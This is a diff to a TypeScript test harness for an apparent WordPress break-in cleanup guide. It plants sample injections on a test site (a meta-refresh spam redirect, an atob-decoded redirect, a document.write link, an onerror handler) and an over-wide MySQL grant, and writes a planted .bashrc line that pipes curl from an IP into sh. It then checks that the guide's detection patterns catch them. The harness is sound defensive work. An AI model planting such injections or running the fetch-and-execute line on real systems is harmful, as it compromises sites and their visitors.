@@ -76,6 +76,21 @@ const INJECTED_META = '_elementor_data';
 /** Script in an attribute, not a script element (review r52 MEDIUM 2): in an option the searches must find too. */
 const INJECTED_HANDLER = '<img src=x onerror=fetch(1)>';
 const INJECTED_HANDLER_OPTION = 'wpc_header_code';
+/**
+ * Injections the first pattern missed (review r57 M5), each matched by one of the widened pattern's words alone:
+ * a redirect in an option, a script's address decoded by atob in a post field, a link written by document.write.
+ */
+const INJECTED_WIDER = {
+  refreshOption: {name: 'wpc_meta_refresh', value: '<meta http-equiv="refresh" content="0;url=https://spam.example/">'},
+  atobMeta: {post: 2, key: '_wpc_head_js', value: 'var u = atob("aHR0cHM6Ly9zcGFtLmV4YW1wbGUv"); location = u;'},
+  writeOption: {name: 'wpc_ads', value: 'document.write("<a href=https://spam.example/>watches</a>")'},
+};
+/**
+ * The site's database user given a right beyond its database (review r58 M4): with CREATE USER on *.* it could have
+ * added database users. Granted by the administrator for the broken-into site, taken back for the clean one.
+ */
+const SITE_USER = `'${SITE.database}'@'localhost'`;
+const WIDE_GRANT = `GRANT CREATE USER ON *.* TO ${SITE_USER}`;
 /** Where else injected code renders (review r52 LOW 3): the Sample Page's excerpt, Uncategorized's description, the first comment. */
 const INJECTED_ELSEWHERE = {excerptOf: 2, termId: 1, commentId: 1};
 /**
@@ -188,6 +203,9 @@ wp --path=${SITE.root} --skip-plugins --skip-themes option update admin_email ${
 wp --path=${SITE.root} --skip-plugins --skip-themes option add ${INJECTED_OPTION} '${INJECTED}' >/dev/null
 wp --path=${SITE.root} --skip-plugins --skip-themes post meta add 1 ${INJECTED_META} '${INJECTED}' >/dev/null
 wp --path=${SITE.root} --skip-plugins --skip-themes option add ${INJECTED_HANDLER_OPTION} '${INJECTED_HANDLER}' >/dev/null
+wp --path=${SITE.root} --skip-plugins --skip-themes option add ${INJECTED_WIDER.refreshOption.name} '${INJECTED_WIDER.refreshOption.value}' >/dev/null
+wp --path=${SITE.root} --skip-plugins --skip-themes post meta add ${INJECTED_WIDER.atobMeta.post} ${INJECTED_WIDER.atobMeta.key} '${INJECTED_WIDER.atobMeta.value}' >/dev/null
+wp --path=${SITE.root} --skip-plugins --skip-themes option add ${INJECTED_WIDER.writeOption.name} '${INJECTED_WIDER.writeOption.value}' >/dev/null
 wp --path=${SITE.root} db query "CREATE TRIGGER ${PLANTED_TRIGGER} AFTER UPDATE ON wp_usermeta FOR EACH ROW SET @seen = 1"
 # Straight into the table: wp post create would pass it through kses, as WP-CLI runs as no user
 wp --path=${SITE.root} db query "UPDATE wp_posts SET post_content = CONCAT(post_content, '${INJECTED}') WHERE ID = 1"
@@ -299,6 +317,7 @@ async function freshSite(ctx: RecipeContext, ns: WordPressNamespace) {
   );
   if (reset.status !== 0) throw new Error(`resetting the site failed:\n${reset.output}`);
   reloadSiteDatabase(ws, sql);
+  admin(ws, `REVOKE ALL PRIVILEGES, GRANT OPTION FROM ${SITE_USER}; GRANT ALL ON ${SITE.database}.* TO ${SITE_USER};`);
   ws.note(SECURITY, `${PLUGIN} (the site's plugin)`, `Debian's ${PLUGIN} ${plugin.version}, its checksums served by the stand-in`);
   ws.note(SECURITY, 'mktemp -d (in the clean shell)', `under ${tmp} (TMPDIR), removed with the run`);
   return tmp;
@@ -333,6 +352,7 @@ async function brokenIntoSite(ctx: RecipeContext, ns: WordPressNamespace): Promi
   );
   if (reset.status !== 0) throw new Error(`resetting the broken-into site failed:\n${reset.output}`);
   reloadSiteDatabase(ws, sql);
+  admin(ws, WIDE_GRANT);
   return tmp;
 }
 
@@ -528,6 +548,14 @@ function checkEvidenceFiles(ctx: RecipeContext, ns: WordPressNamespace) {
   const setAsidePlaceholder = /^S=\/home\/set-aside-example\.XXXXXX$/m;
   if (!setAsidePlaceholder.test(block))
     ctx.fail(EVIDENCE_FILES, 'no S=/home/set-aside-example.XXXXXX line to copy the folder step 2 printed');
+  // Pasted as printed, the example names: the guard must stop the block before its first copy.
+  const unfilled = ns.root(`rm -rf '${home}' && install -d -m 700 '${home}' && export HOME='${home}'\n${block}`);
+  ctx.expect(
+    unfilled.status !== 0 && /^Set E and S to the folders step 2 printed$/m.test(unfilled.output) && !/tar|find/.test(unfilled.output),
+    EVIDENCE_FILES,
+    'pasted with the example folder names (XXXXXX), the block stops at its guard with a message, before tar or find runs',
+    () => `with E and S left as the examples, the block did not stop at its guard (status ${unfilled.status}):\n${unfilled.output}`,
+  );
   const ran = ns.root(
     `rm -rf '${home}' '${setAside}' && install -d -m 700 '${home}' '${folder}' '${setAside}' && echo 'curl -s http://203.0.113.9/x | sh' > '${setAside}/.bashrc' && export HOME='${home}'\n${block
       .replace(placeholder, `E='${folder}'`)
@@ -666,6 +694,26 @@ async function checksAfterBreakIn(ctx: RecipeContext) {
       LOADING_CHECKS,
       `the searches also find the handler in the excerpt of post ${INJECTED_ELSEWHERE.excerptOf} (the Sample Page), the script in category ${INJECTED_ELSEWHERE.termId}'s description and in comment ${INJECTED_ELSEWHERE.commentId} (approved)`,
       () => `the searches for injected code missed ${missedElsewhere.map(([where]) => where).join(', ')}:\n${loaded}`,
+    );
+    const missedWider = [
+      [`the redirect in ${INJECTED_WIDER.refreshOption.name}`, `^\\d+\\t${INJECTED_WIDER.refreshOption.name}$`],
+      [
+        `atob in post ${INJECTED_WIDER.atobMeta.post}'s ${INJECTED_WIDER.atobMeta.key}`,
+        `^${INJECTED_WIDER.atobMeta.post}\\t${INJECTED_WIDER.atobMeta.key}$`,
+      ],
+      [`document.write in ${INJECTED_WIDER.writeOption.name}`, `^\\d+\\t${INJECTED_WIDER.writeOption.name}$`],
+    ].filter(([, row]) => !new RegExp(row, 'm').test(loaded));
+    ctx.expect(
+      missedWider.length === 0,
+      LOADING_CHECKS,
+      `the searches also find a meta refresh in the option ${INJECTED_WIDER.refreshOption.name}, atob in post ${INJECTED_WIDER.atobMeta.post}'s field ${INJECTED_WIDER.atobMeta.key} and document.write in the option ${INJECTED_WIDER.writeOption.name}, none of which holds a script tag, handler or eval`,
+      () => `the widened searches for injected code missed ${missedWider.map(([where]) => where).join(', ')}:\n${loaded}`,
+    );
+    ctx.expect(
+      /^GRANT CREATE USER ON \*\.\* TO [`']wp_example[`']@[`']localhost[`']/m.test(loaded),
+      LOADING_CHECKS,
+      "SHOW GRANTS shows the site's database user holding CREATE USER on *.*, beyond its own database",
+      () => `the checks that load WordPress did not show the site's database user's CREATE USER on *.*:\n${loaded}`,
     );
     const login = ESCAPED_LOGIN.shown.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
     ctx.expect(
@@ -816,11 +864,13 @@ async function checksAfterBreakIn(ctx: RecipeContext) {
         loadedClean,
       ) &&
       sorted(rolesListed(loadedClean)) === 'administrator' &&
+      /^GRANT USAGE ON \*\.\* TO [`']wp_example[`']@[`']localhost[`']/m.test(loadedClean) &&
+      /^GRANT ALL PRIVILEGES ON [`']?wp_example[`']?\.\* TO [`']wp_example[`']@[`']localhost[`']$/m.test(loadedClean) &&
       !/^ERROR \d+/m.test(loadedClean) &&
       !/\bkey_id\b|\bwebhook_id\b/.test(loadedClean) &&
       /^Success: Verified 1 of 1 plugins\.$/m.test(loadedClean),
     LOADING_CHECKS,
-    'on the clean site, the WordPress checks list the one administrator, users_can_register 0, default_role subscriber and the admin email as installed, the one plugin, no injected code, only administrator as a role that can take the site, no shop key or webhook and no database error (no WooCommerce tables), and verify the plugin',
+    'on the clean site, the WordPress checks list the one administrator, grants for the database user on its own database alone, users_can_register 0, default_role subscriber and the admin email as installed, the one plugin, no injected code, only administrator as a role that can take the site, no shop key or webhook and no database error (no WooCommerce tables), and verify the plugin',
     () => `on the clean site the checks that load WordPress printed:\n${loadedClean}`,
   );
 }
@@ -1082,6 +1132,25 @@ export const wordpressSecurityRecipe: Recipe = {
       ref: EVIDENCE_DATABASE,
       edit: replace(' --routines --events', ''),
       expect: /the database export did not hold wpsupport with the events and routines/,
+    },
+    {
+      what: 'drop the guard against the example folder names',
+      ref: EVIDENCE_FILES,
+      edit: replace(/^\[ -d "\$E" \].*\n/m, ''),
+      expect: /with E and S left as the examples, the block did not stop at its guard/,
+    },
+    {
+      what: "drop SHOW GRANTS: the site's database user's rights go unlisted",
+      ref: LOADING_CHECKS,
+      edit: replace(/^wp --path="\$SITE" db query "SHOW GRANTS" \| cat -v\n/m, ''),
+      expect: /did not show the site's database user's CREATE USER on \*\.\*/,
+    },
+    {
+      what: 'search with the pattern before review r57 (scripts, handlers, eval, base64_decode only)',
+      ref: LOADING_CHECKS,
+      edit: replace('|document[.]write|fromCharCode|atob[(]|gzinflate|str_rot13|http-equiv=.?refresh', ''),
+      expect:
+        /the widened searches for injected code missed the redirect in wpc_meta_refresh, atob in post 2's _wpc_head_js, document\.write in wpc_ads/,
     },
     {
       what: 'leave the set-aside folder out of the evidence',
